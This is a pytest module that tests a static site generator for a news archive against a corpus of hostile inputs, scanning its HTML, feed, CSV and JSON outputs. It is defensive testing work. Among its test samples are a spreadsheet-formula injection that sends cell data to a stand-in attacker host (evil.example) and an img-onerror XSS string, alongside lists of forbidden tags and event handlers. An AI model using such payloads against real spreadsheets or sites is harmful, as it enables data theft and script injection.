"""The hostile-input corpus (tests/hostile/): every bad input is refused with one clear line,
and nothing unsafe leaves the site.

One site holds every case of tests/hostile/articles.yml. `check` and the build run on it in
child processes with a time limit (a hang fails the test, a traceback fails it): each refused
case must get its `path:line: field: message` from both, and the accepted ones are built, once,
into a site whose every output file is scanned (HTML, Atom feeds, CSV, JSON, sitemap,
Pagefind's fragments) and whose affected pages are opened in Chromium with a dialog listener.
Nothing may be written outside the output folder, and a failed build keeps the previous site.
Adding a case is adding an entry to the data files.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
import yaml
from exports.exports import FORMULA_START
from lxml import etree
from lxml import html as lhtml

from arsip import links
from arsip.testing import DEFAULT_FIELDS, article, data_dir, using_data

ROOT = Path(__file__).resolve().parent.parent
CORPUS = Path(__file__).resolve().parent / "hostile"
CASES: list[dict[str, Any]] = yaml.safe_load((CORPUS / "articles.yml").read_text("utf-8"))
ADDRESSES: dict[str, list[str]] = yaml.safe_load((CORPUS / "addresses.yml").read_text("utf-8"))
INGEST: dict[str, Any] = yaml.safe_load((CORPUS / "ingest.yml").read_text("utf-8"))
REGISTRY: dict[str, str] = yaml.safe_load((CORPUS / "registry.yml").read_text("utf-8"))
REFUSED = [c for c in CASES if "refused" in c]
BY_ID = {c["id"]: c for c in CASES}
ACCEPTED = [c for c in CASES if c.get("accepted")]
TIMEOUT = 300  # seconds for one check or build of the corpus (a few seconds normally)

#: Characters no output may carry: C0 controls but tab and line breaks, DEL, C1 controls,
#: line and paragraph separators, bidi controls (escaped forms such as &#27; are not found
#: here: they are checked where a reader decodes them).
UNSAFE_CHARS = re.compile(
    r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)
#: Elements hostile text could use to run script, load something or take over the page.
FORBIDDEN_TAGS = frozenset(
    {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "img", "image", "math"}
)
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster"})

OUTSIDE_ARTICLE = article("Artikel yang tinggal di luar repositori.", title="Judul artikel luar")
OUTSIDE_PAGE = "---\ntitle: Halaman luar\n---\nHalaman di luar repositori.\n"
SECRET = "SECRET-OUTSIDE-THE-REPOSITORY"


# --------------------------------------------------------------------------- the corpus


def case_path(case: dict[str, Any]) -> str:
    return case.get("path") or f"articles/2024/{case['id']}.md"


def case_text(case: dict[str, Any]) -> str:
    """The file's text: ``text``, else the fields over a valid article's and the body."""
    if "text" in case:
        return case["text"]
    fields = {k: v for k, v in DEFAULT_FIELDS.items() if k not in case.get("drop", [])}
    fields.update(case.get("fields", {}))
    body = case.get("body", f"Kasus uji {case['id']}: teks yang berbeda dari kasus lain.")
    text = article(body * case.get("repeat", 1), **fields)
    if case.get("padding"):
        text = text.replace("\n---\n", f"\n# {'x' * case['padding']}\n---\n", 1)
    return text


def materialise(case: dict[str, Any], content: Path, outside: Path) -> Path:
    """Write one case into ``content``: a file, a symbolic link or a named pipe."""
    path = content / case_path(case)
    path.parent.mkdir(parents=True, exist_ok=True)
    if "link" in case:
        path.symlink_to(case["link"].replace("{outside}", str(outside)))
    elif case.get("fifo"):
        os.mkfifo(path)
    else:
        path.write_bytes(case_text(case).encode(case.get("encoding", "utf-8")))
    return path


def remove(path: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        for child in path.iterdir():
            remove(child)
        path.rmdir()
    else:
        path.unlink()


def expected_line(case: dict[str, Any]) -> str:
    """The start of the problem's line as printed (control characters escaped)."""
    shown = f"content/{case_path(case)}".translate({10: "\\n", 13: "\\r", 9: "\\t"})
    return f"{shown}:{case['refused']}"


# --------------------------------------------------------------------------- child processes

BUILD = """
import sys
from tools.build import BuildFailed, build
try:
    build(siteurl=sys.argv[1], content=sys.argv[2], output=sys.argv[3])
except BuildFailed as exc:
    print(exc, file=sys.stderr)
    sys.exit(1)
"""


def run(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """A child Python process with a time limit; a traceback in its output fails the test."""
    proc = subprocess.run(
        [sys.executable, *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        errors="backslashreplace",
        timeout=TIMEOUT,
        check=False,
        env={**os.environ, "PYTHONUTF8": "1", "HOME": str(cwd)},
    )
    assert "Traceback" not in proc.stdout + proc.stderr, proc.stdout + proc.stderr
    return proc


def build(siteurl: str, content: Path, output: Path, cwd: Path) -> subprocess.CompletedProcess:
    return run(["-c", BUILD, siteurl, str(content), str(output)], cwd)


def check(content: Path, cwd: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    folders = [str(content / k) for k in ("articles", "pages") if (content / k).exists()]
    return run(["-m", "arsip.check", *folders, *extra], cwd)


def tree(folder: Path, skip: Path | None = None) -> dict[str, str]:
    """Every entry below ``folder`` (but ``skip``) with a digest of what it is."""
    found = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        if skip is not None and Path(dirpath) == skip.parent and skip.name in dirnames:
            dirnames.remove(skip.name)
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            if path.is_symlink():
                found[str(path)] = "-> " + os.readlink(path)
            elif path.is_file():
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                found[str(path)] = "dir" if path.is_dir() else "special"
    return found


# --------------------------------------------------------------------------- scanning output


def html_problems(name: str, markup: str, page_url: str) -> list[str]:
    """What is unsafe in a page (or in HTML a feed reader decodes) as a browser reads it."""
    if not markup.strip():
        return []
    problems = []
    doc = lhtml.fromstring(markup)
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower().rsplit("}", 1)[-1]
        if tag in FORBIDDEN_TAGS:
            problems.append(f"{name}: <{tag}> element")
        if tag == "script" and el.get("type") == "application/ld+json":
            # Data, not code: it must parse as JSON and hold no "<" that could close the element.
            text = el.text or ""
            try:
                json.loads(text)
            except ValueError:
                problems.append(f"{name}: JSON-LD that is not JSON: {text[:60]!r}")
            if "<" in text:
                problems.append(f"{name}: JSON-LD with a raw '<': {text[:60]!r}")
        elif tag == "script" and ("XSS" in (el.text or "") or el.get("src", "").count("//") > 1):
            problems.append(f"{name}: script from the content: {(el.text or '')[:60]!r}")
        if tag == "meta" and (el.get("http-equiv") or "").lower() == "refresh":
            problems.append(f"{name}: meta refresh")
        for attr, value in el.attrib.items():
            attr = attr.lower()
            if attr.startswith("on"):
                problems.append(f"{name}: event handler {attr}={value[:60]!r}")
            if attr in URL_ATTRIBUTES or attr.endswith("href"):
                kind = links.classify(value)
                if kind == "unsafe" and not value.startswith("data:image/"):
                    problems.append(f"{name}: {attr}={value[:60]!r}")
                host = urlsplit(urljoin(page_url, links.browser_form(value))).hostname
                if tag == "a" and host and host.endswith("evil.example"):
                    rel = set((el.get("rel") or "").split())
                    if not {"noopener", "noreferrer"} <= rel:
                        problems.append(f"{name}: off-site link without noopener noreferrer")
                    if not {"external", "source-link"} & set((el.get("class") or "").split()):
                        problems.append(f"{name}: off-site link {value!r} not marked as such")
    return problems


def feed_problems(name: str, data: bytes, page_url: str) -> list[str]:
    """An Atom feed: well-formed XML, and what a reader decodes as HTML is safe HTML."""
    problems = []
    for el in etree.fromstring(data).iter():
        if el.get("type") == "html" and el.text:
            problems += html_problems(f"{name} <{etree.QName(el).localname}>", el.text, page_url)
    return problems


def fragment_problems(name: str, data: bytes, siteurl: str) -> list[str]:
    """Pagefind's fragments hold the pages' text as text: pagefind.js escapes < and > in it
    before it makes the excerpt that theme/static/js/cari.js shows as HTML, and the metadata
    is shown as text (both checked in Chromium below). Here: readable JSON, no unsafe
    characters, addresses on the site."""
    raw = gzip.decompress(data).decode("utf-8")
    assert raw.startswith("pagefind_dcd"), name
    fragment = json.loads(raw[len("pagefind_dcd") :])
    problems = [f"{name}: raw {m.group()!r}" for m in UNSAFE_CHARS.finditer(raw)]
    if not fragment["url"].startswith("/") or fragment["url"].startswith("//"):
        problems.append(f"{name}: address {fragment['url']!r}")
    return problems


def output_problems(out: Path, siteurl: str) -> list[str]:
    """Every unsafe thing in every output file (see the module's docstring)."""
    problems: list[str] = []
    for path in sorted(p for p in out.rglob("*") if p.is_file()):
        rel = str(path.relative_to(out))
        url = f"{siteurl}/{rel}"
        data = path.read_bytes()
        if path.suffix == ".pf_fragment":
            problems += fragment_problems(rel, data, siteurl)
            continue
        if path.suffix not in (".html", ".xml", ".json", ".csv", ".txt"):
            continue
        text = data.decode("utf-8")
        problems += [f"{rel}: raw {m.group()!r}" for m in UNSAFE_CHARS.finditer(text)]
        if path.suffix == ".html":
            problems += html_problems(rel, text, url)
        elif path.suffix == ".xml":
            problems += feed_problems(rel, data, url)
            for loc in etree.fromstring(data).iter("{*}loc"):
                if not (loc.text or "").startswith(siteurl + "/"):
                    problems.append(f"{rel}: sitemap address {loc.text!r}")
        elif path.suffix == ".json":
            json.loads(text)
        elif path.suffix == ".csv":
            for row in csv.reader(io.StringIO(text, newline="")):
                problems += [
                    f"{rel}: formula {c[:40]!r}" for c in row if c.startswith(FORMULA_START)
                ]
    return problems


# --------------------------------------------------------------------------- the corpus site


class Corpus:
    """The corpus built once: check's and the builds' outputs, the site, the file trees."""

    def __init__(self, base: Path, siteurl: str):
        self.base, self.siteurl = base, siteurl
        self.repo, self.outside = base / "repo", base / "outside"
        self.content, self.output = self.repo / "content", self.repo / "output"
        (self.content / "articles" / "2024").mkdir(parents=True)
        (self.content / "pages").mkdir()
        self.outside.mkdir()
        (self.outside / "luar.md").write_text(OUTSIDE_ARTICLE, encoding="utf-8")
        (self.outside / "halaman.md").write_text(OUTSIDE_PAGE, encoding="utf-8")
        (self.outside / "secret.txt").write_text(SECRET, encoding="utf-8")
        for case in ACCEPTED:
            materialise(case, self.content, self.outside)
        #: Each run's (files outside output/ before, after): they must be the same.
        self.untouched: list[tuple[dict[str, str], dict[str, str]]] = []
        # The accepted cases alone: the site.
        self.good = self.run(build, siteurl, self.content, self.output, self.repo)
        self.site = tree(self.output)
        # Every case: check (all of them at once, as text and as annotations), then builds.
        refused = {c["id"]: materialise(c, self.content, self.outside) for c in REFUSED}
        self.check = self.run(check, self.content, self.repo)
        self.github = self.run(check, self.content, self.repo, "--format", "github")
        # The build stops at the first stage with problems (the listing of content/, the
        # articles, the pages): the cases it refused go, and it runs again, until none is left.
        self.builds: list[subprocess.CompletedProcess[str]] = []
        self.sites_after: list[dict[str, str]] = []
        while refused:
            proc = self.run(build, siteurl, self.content, self.output, self.repo)
            self.builds.append(proc)
            self.sites_after.append(tree(self.output))
            done = [
                case_id
                for case_id in refused
                if any(line.startswith(expected_line(BY_ID[case_id])) for line in lines_of(proc))
            ]
            if proc.returncode != 1 or not done:
                break  # the test of the remaining cases fails
            for case_id in done:
                remove(refused.pop(case_id))

    def run(self, command: Any, *args: Any) -> subprocess.CompletedProcess[str]:
        before = tree(self.base, skip=self.output)
        proc = command(*args)
        self.untouched.append((before, tree(self.base, skip=self.output)))
        return proc


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Corpus, str]]:
    from tools.serve import make_server

    server = make_server(tmp_path_factory.mktemp("placeholder"), 0, "/arsip", quiet=True)
    port = server.server_address[1]
    server.server_close()
    base = tmp_path_factory.mktemp("hostile")
    # The corpus's names are registered in a copy of the registries its checks and builds read.
    with using_data(data_dir(base / "data", REGISTRY["people"], REGISTRY["outlets"])):
        built = Corpus(base, f"http://127.0.0.1:{port}/arsip")
    server = make_server(built.output, port, "/arsip", quiet=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield built, built.siteurl
    server.shutdown()


def lines_of(proc: subprocess.CompletedProcess[str]) -> list[str]:
    return (proc.stdout + proc.stderr).splitlines()


def test_corpus_is_well_formed() -> None:
    ids = [c["id"] for c in CASES]
    assert len(ids) == len(set(ids)) and len(REFUSED) + len(ACCEPTED) == len(CASES)
    assert all(
        re.match(r"^\d+: [^:]+: ", c["refused"]) or c["refused"].endswith(": ") for c in REFUSED
    )


def test_accepted_cases_build(corpus: tuple[Corpus, str]) -> None:
    built, _ = corpus
    assert built.good.returncode == 0, built.good.stderr
    for case in ACCEPTED:
        if case_path(case).startswith("articles/"):
            slug = Path(case_path(case)).stem
            assert f"artikel/2024/{slug}/index.html" in {
                str(Path(p).relative_to(built.output)) for p in built.site
            }, case["id"]


@pytest.mark.parametrize("case", REFUSED, ids=[c["id"] for c in REFUSED])
def test_check_refuses_with_one_clear_line(corpus: tuple[Corpus, str], case: dict) -> None:
    built, _ = corpus
    assert built.check.returncode == 1
    want = expected_line(case)
    mine = [line for line in lines_of(built.check) if line.startswith(want)]
    assert mine, f"{want!r} not in check's output:\n{built.check.stdout}"
    for line in mine:
        assert len(line) < 600, line  # a short excerpt, never the value whole


@pytest.mark.parametrize("case", REFUSED, ids=[c["id"] for c in REFUSED])
def test_the_build_refuses_the_same(corpus: tuple[Corpus, str], case: dict) -> None:
    built, _ = corpus
    assert all(proc.returncode == 1 for proc in built.builds)
    want = expected_line(case)
    printed = [line for proc in built.builds for line in lines_of(proc)]
    assert any(line.startswith(want) for line in printed), built.builds[-1].stderr


def test_every_problem_is_one_line_of_safe_text(corpus: tuple[Corpus, str]) -> None:
    built, _ = corpus
    for proc in (built.check, *built.builds):
        out = proc.stdout + proc.stderr
        assert not UNSAFE_CHARS.search(out.replace("\r\n", "\n").replace("\r", "")), out
        assert not any(line.startswith("::") for line in out.splitlines()), out
    # Annotations: one workflow command per problem, nothing else starting one.
    text = [line for line in built.check.stdout.splitlines() if line]
    github = [line for line in built.github.stdout.splitlines() if line]
    assert len(github) == len(text) and all(line.startswith("::error file=") for line in github)
    assert any("%0A%3A%3Aerror" in line or "\\n::error" in line for line in github)


def test_a_failed_build_keeps_the_site_and_writes_nothing_else(
    corpus: tuple[Corpus, str],
) -> None:
    built, _ = corpus
    assert built.sites_after and all(site == built.site for site in built.sites_after)
    for before, after in built.untouched:  # content/, the outside folder, the working folder
        assert after == before
    assert not any(
        SECRET in Path(p).read_text("utf-8", "replace") for p in built.site if Path(p).is_file()
    )


def test_no_unsafe_byte_in_any_output_file(corpus: tuple[Corpus, str]) -> None:
    built, siteurl = corpus
    kinds = {Path(p).suffix for p in built.site}
    assert {".html", ".xml", ".json", ".csv", ".pf_fragment"} <= kinds
    assert output_problems(built.output, siteurl) == []


def test_fields_reach_feeds_and_csv_as_text(corpus: tuple[Corpus, str]) -> None:
    built, _ = corpus
    feed = (built.output / "feeds" / "semua.atom.xml").read_bytes()
    summaries = [
        el.text
        for el in etree.fromstring(feed).iter("{*}summary")
        if el.text and "Harga" in el.text
    ]
    # Decoded once as HTML (as a feed reader does), the summary is the editor's text.
    (summary,) = summaries
    assert lhtml.fromstring(summary).text_content() == (
        "Harga < 5 & naik > 3, tulisan &lt;img src=x onerror=alert('XSS')&gt; tetap teks"
    )
    rows = list(
        csv.DictReader(
            io.StringIO((built.output / "data" / "articles.csv").read_text("utf-8"), newline="")
        )
    )
    titles = {r["title"] for r in rows}
    assert '\'=HYPERLINK("https://evil.example/?d="&A1,"klik")' in titles
    records = json.loads((built.output / "data" / "articles.json").read_text("utf-8"))
    assert '=HYPERLINK("https://evil.example/?d="&A1,"klik")' in {r["title"] for r in records}


def test_official_names_that_slugify_alike_get_two_pages(corpus: tuple[Corpus, str]) -> None:
    built, _ = corpus
    pages = {str(Path(p).relative_to(built.output)) for p in built.site}
    assert {"pejabat/ab-cd/index.html", "pejabat/ab-cd-2/index.html"} <= pages


@pytest.mark.browser
def test_pages_run_no_injected_script(corpus: tuple[Corpus, str], page) -> None:
    _, siteurl = corpus
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    visited = ["/", "/feeds/semua.atom.xml", "/pejabat/ab-cd/", "/pejabat/ab-cd-2/"]
    visited += [
        f"/artikel/2024/{Path(case_path(c)).stem}/" for c in ACCEPTED if "articles/" in case_path(c)
    ]
    visited += [f"/cari/?{q}" for q in ADDRESSES["search"]]
    for path in visited:
        response = page.goto(siteurl + path, wait_until="networkidle")
        assert response is not None and response.ok, path
        if path.startswith("/cari/"):
            page.wait_for_function("document.querySelector('#cari-status') !== null")
        for link in page.locator("a[href*='evil.example']").all():
            link.hover()
    assert dialogs == []
    assert errors == []


@pytest.mark.parametrize("url", ADDRESSES["siteurl"])
def test_publish_refuses_a_hostile_site_url(tmp_path: Path, url: str) -> None:
    proc = build(url, tmp_path / "content", tmp_path / "output", tmp_path)
    assert proc.returncode == 1
    assert proc.stderr.startswith("--siteurl "), proc.stderr
    assert list(tmp_path.iterdir()) == []


GOOD_RAW = (
    "Sekda Kota Solok Ingatkan ASN Jaga Netralitas\n\n"
    "SOLOK, Padangkita.com - Sekretaris Daerah Kota Solok Ardi Wijaya mengingatkan ASN Pemko "
    "Solok menjaga netralitas menjelang Pilkada 2024.\n\n"
    '"ASN harus netral," kata Ardi di Balai Kota Solok, Kamis (5/9/2024).\n'
)


def test_ingest_of_hostile_texts(tmp_path: Path) -> None:
    raw, dest = tmp_path / "raw", tmp_path / "repo" / "content" / "articles"
    raw.mkdir()
    dest.mkdir(parents=True)
    for case in INGEST["texts"]:
        (raw / f"{case['id']}.txt").write_text(case["text"] * case.get("repeat", 1), "utf-8")
    before = tree(tmp_path, skip=dest)
    proc = run(["-m", "arsip.ingest", str(raw), "--dest", str(dest)], tmp_path)
    assert tree(tmp_path, skip=dest) == before
    out = proc.stdout + proc.stderr
    assert not UNSAFE_CHARS.search(out) and not re.search(r"(?m)^::", out), out
    drafts = sorted(dest.rglob("*"))
    assert all(p.is_dir() or (p.suffix == ".md" and p.parent.parent == dest) for p in drafts)
    reported = {Path(m).stem for m in re.findall(r"(?m)^(\S+\.txt): ", out)}
    assert reported == {c["id"] for c in INGEST["texts"]}, out  # each one answered
    problems = check(dest.parent, tmp_path)
    for line in lines_of(problems):
        assert ": review: " in line or "problem(s)" in line or "checked" in line, line


@pytest.mark.parametrize("case", INGEST["dest"], ids=[c["setup"] for c in INGEST["dest"]])
def test_ingest_refuses_a_hostile_dest(tmp_path: Path, case: dict) -> None:
    raw, dest, elsewhere = tmp_path / "a.txt", tmp_path / "articles", tmp_path / "elsewhere"
    raw.write_text(GOOD_RAW, "utf-8")
    elsewhere.mkdir()
    if case["setup"] == "file":
        dest.write_text("a file", "utf-8")
    elif case["setup"] == "dangling":
        dest.symlink_to(tmp_path / "nowhere")
    else:
        dest.mkdir()
        (dest / "2024").symlink_to(elsewhere, target_is_directory=True)
    before = tree(tmp_path)
    proc = run(["-m", "arsip.ingest", str(raw), "--dest", str(dest)], tmp_path)
    assert proc.returncode == 1 and case["error"] in proc.stderr, proc.stderr
    assert tree(tmp_path) == before
